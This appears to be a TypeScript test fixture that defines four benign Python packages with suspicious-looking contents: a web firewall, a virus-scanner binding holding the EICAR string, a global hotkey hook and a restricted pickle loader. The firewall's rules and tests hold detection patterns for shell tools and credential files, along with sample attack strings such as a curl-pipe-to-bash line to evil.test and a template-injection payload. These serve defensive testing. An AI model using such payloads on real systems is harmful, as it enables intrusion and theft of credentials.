import { sdists } from '../archives';
import { src } from '../benign-case';
import { randomBytes } from '../draw';

export const SIGNATURE_AND_HOOK_SDISTS = sdists('unusual contents', [
  {
    why: 'A firewall for web frameworks, full of attack strings in its rules and in its tests.',
    name: 'palisade-waf',
    version: '0.5.5',
    summary: 'Firewall middleware for WSGI.',
    author: 'Palisade <security@palisade-waf.example>',
    usage: `from palisade_waf import Firewall\n\napp = Firewall(app)`,
    files: {
      'setup.py': `from setuptools import setup\n\nsetup(name="palisade-waf", version="0.5.5", packages=["palisade_waf"])\n`,
      'palisade_waf/__init__.py': src`
"""Firewall middleware for WSGI."""
from urllib.parse import unquote

from .rules import RULES


class Firewall:
    def __init__(self, app):
        self.app = app

    def __call__(self, environ, start_response):
        text = unquote(environ.get("PATH_INFO", "") + "?" + environ.get("QUERY_STRING", ""))
        for name, rule in RULES.items():
            if rule.search(text):
                start_response("403 Forbidden", [("X-Palisade", name)])
                return [b"blocked"]
        return self.app(environ, start_response)
`,
      'palisade_waf/rules.py': src`
import re

RULES = {
    "py-import-os": re.compile(r"__import__\(['\"]os['\"]\)|os\.(system|popen)\("),
    "py-exec": re.compile(r"(exec|eval)\(\s*(base64|codecs|zlib)\."),
    "pickle": re.compile(r"cposix\nsystem\n|c__builtin__\neval"),
    "jinja": re.compile(r"\{\{.*(__class__|__mro__|__globals__|config\.items).*\}\}"),
    "shell": re.compile(r"(;|\|)\s*(curl|wget|nc|bash -i|python -c)\b"),
    "ssh": re.compile(r"\.ssh/(id_rsa|authorized_keys)|/etc/(passwd|shadow)|\.aws/credentials"),
}
`,
      'tests/test_rules.py': src`
import pytest

from palisade_waf.rules import RULES

ATTACKS = [
    "__import__('os').system('id')",
    "exec(base64.b64decode('cHJpbnQoMSk='))",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "; curl http://evil.test/x.sh | bash -i",
    "../../.ssh/id_rsa",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_blocked(attack):
    assert any(rule.search(attack) for rule in RULES.values())
`,
    },
  },
  {
    why: 'A virus scanner binding whose tests use the standard test string, put together so that no scanner holds the archive.',
    name: 'pyclamlink',
    version: '1.0.9',
    summary: 'Talks to a virus scanner’s daemon.',
    author: 'Clamlink <dev@pyclamlink.example>',
    usage: `from pyclamlink import scan`,
    files: {
      'setup.cfg': '[metadata]\nname = pyclamlink\nversion = 1.0.9\n\n[options]\npackages = pyclamlink\n',
      'setup.py': 'from setuptools import setup\n\nsetup()\n',
      'pyclamlink/__init__.py': src`
"""Talks to a virus scanner's daemon."""
import socket
import struct

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}" + b"$EICAR-STANDARD-ANTIVIRUS-TEST" + b"-FILE!$H+H*"


def scan(data, address="/var/run/clamd.ctl"):
    with socket.socket(socket.AF_UNIX) as daemon:
        daemon.connect(address)
        daemon.sendall(b"zINSTREAM\0" + struct.pack("!L", len(data)) + data + struct.pack("!L", 0))
        return daemon.recv(4096).decode().strip("\0")
`,
      'tests/test_scan.py':
        'from pyclamlink import EICAR\n\n\ndef test_length_of_the_test_string():\n    assert len(EICAR) == 68\n',
    },
  },
  {
    why: 'Global shortcuts need a keyboard hook; keys are compared with shortcuts and never stored.',
    name: 'hotkeyring',
    version: '0.13.6',
    summary: 'Global keyboard shortcuts.',
    author: 'Hotkeyring <dev@hotkeyring.example>',
    usage: `from hotkeyring import on\n\non("ctrl+alt+p", pause)`,
    files: {
      'setup.py': `from setuptools import setup\n\nsetup(name="hotkeyring", version="0.13.6", packages=["hotkeyring"])\n`,
      'hotkeyring/__init__.py': src`
"""Global keyboard shortcuts."""
import sys

from .match import Matcher

_matcher = Matcher()


def on(shortcut, action):
    _matcher.add(shortcut, action)


def listen():
    if sys.platform == "win32":
        from ._windows import events
    else:
        from ._evdev import events
    for key, down in events():
        _matcher.feed(key, down)
`,
      'hotkeyring/match.py': src`
class Matcher:
    def __init__(self):
        self.held, self.actions = set(), {}

    def add(self, shortcut, action):
        self.actions[frozenset(shortcut.lower().split("+"))] = action

    def feed(self, key, down):
        (self.held.add if down else self.held.discard)(key)
        if down and (action := self.actions.get(frozenset(self.held))):
            action()
`,
      'hotkeyring/_windows.py': src`
import ctypes
from ctypes import wintypes

WH_KEYBOARD_LL = 13


def events():
    user32 = ctypes.WinDLL("user32", use_last_error=True)
    pending = []

    @ctypes.WINFUNCTYPE(wintypes.LPARAM, ctypes.c_int, wintypes.WPARAM, wintypes.LPARAM)
    def hook(code, message, data):
        pending.append((ctypes.cast(data, ctypes.POINTER(wintypes.DWORD))[0], message in (0x100, 0x104)))
        return user32.CallNextHookEx(None, code, message, data)

    user32.SetWindowsHookExW(WH_KEYBOARD_LL, hook, None, 0)
    message = wintypes.MSG()
    while user32.GetMessageW(ctypes.byref(message), None, 0, 0):
        while pending:
            yield pending.pop(0)
`,
      'hotkeyring/_evdev.py': src`
import glob
import select
import struct

EVENT = struct.Struct("llHHi")


def events():
    devices = [open(path, "rb", buffering=0) for path in glob.glob("/dev/input/by-path/*-kbd")]
    while True:
        for device in select.select(devices, [], [])[0]:
            _, _, kind, code, value = EVENT.unpack(device.read(EVENT.size))
            if kind == 1 and value in (0, 1):
                yield code, value == 1
`,
    },
  },
  {
    why: 'Loads models that were saved with pickle, with an unpickler that admits listed classes only.',
    name: 'modelshelf',
    version: '1.4.1',
    summary: 'Saves and loads small models.',
    author: 'Modelshelf <dev@modelshelf.example>',
    usage: `from modelshelf import load`,
    files: () => ({
      'pyproject.toml':
        '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n\n[project]\nname = "modelshelf"\nversion = "1.4.1"\n',
      'modelshelf/__init__.py': 'from .load import load, save\n\n__all__ = ["load", "save"]\n',
      'modelshelf/load.py': src`
import pickle
import zlib

ALLOWED = {("builtins", "dict"), ("builtins", "list"), ("collections", "OrderedDict"), ("numpy", "ndarray"), ("numpy", "dtype")}


class Restricted(pickle.Unpickler):
    def find_class(self, module, name):
        if (module, name) not in ALLOWED:
            raise pickle.UnpicklingError(f"{module}.{name} is not allowed in a model")
        return super().find_class(module, name)


def save(model, path):
    with open(path, "wb") as file:
        file.write(zlib.compress(pickle.dumps(model, protocol=4)))


def load(path):
    import io

    with open(path, "rb") as file:
        return Restricted(io.BytesIO(zlib.decompress(file.read()))).load()
`,
      'tests/data/model.bin': randomBytes(305, 8000),
    }),
  },
]);
